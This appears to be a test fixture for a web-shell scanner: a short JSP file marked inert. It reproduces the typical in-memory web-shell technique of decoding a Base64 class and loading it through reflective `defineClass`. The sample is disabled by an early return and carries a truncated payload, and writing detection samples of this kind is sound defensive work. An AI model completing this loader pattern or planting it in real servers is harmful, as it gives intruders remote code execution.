<%-- shellsweep test sample: inert, never functional --%>
<% if (true) return; %>
<% byte[] b = java.util.Base64.getDecoder().decode("yv66vgAAADIAEwoABQAOCgAPABAHABEHABIBAAY8aW5pdD4BAAMoKVYBAARDb2Rl");
   java.lang.reflect.Method m = ClassLoader.class.getDeclaredMethod("defineClass", byte[].class, int.class, int.class);
   m.setAccessible(true); ((Class) m.invoke(getClass().getClassLoader(), b, 0, b.length)).newInstance(); %>
